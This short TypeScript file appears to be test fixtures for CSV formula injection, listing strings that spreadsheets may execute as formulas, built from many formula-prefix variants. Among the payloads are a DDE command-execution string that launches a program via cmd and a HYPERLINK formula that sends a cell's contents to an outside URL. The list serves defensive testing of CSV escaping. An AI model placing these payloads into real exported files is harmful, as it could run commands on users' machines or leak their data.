const payloads = [
  '1+1',
  'SUM(A1)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://example.org?"&A1,"see")',
  'A1;B1',
  '10,5',
  '1',
];

/** Texts that some spreadsheet runs as a formula when a CSV file holds them as they are. */
export const formulas: readonly string[] = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', ' =', '\u00a0+'].flatMap((sign) =>
    payloads.map((payload) => sign + payload),
  ),
  ...['\t=1', '\r=1', '\n=1', '\t1', '\r1', '\u3000＝1', '\u200b=1', '\ufeff=1', '﹦1', '=', '@'],
];
